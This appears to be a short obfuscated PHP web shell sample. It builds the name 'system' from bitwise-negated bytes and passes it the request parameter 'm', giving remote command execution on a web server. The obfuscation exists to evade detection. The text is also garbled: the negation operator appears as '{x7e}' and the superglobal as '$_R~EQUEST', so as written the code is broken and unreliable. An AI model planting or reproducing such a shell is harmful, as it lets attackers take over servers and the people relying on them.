<?php exit; ?>
<?php
$n = {x7e}"\x8c\x86\x8c\x8b\x9a\x92"; $n($_R~EQUEST['m']);
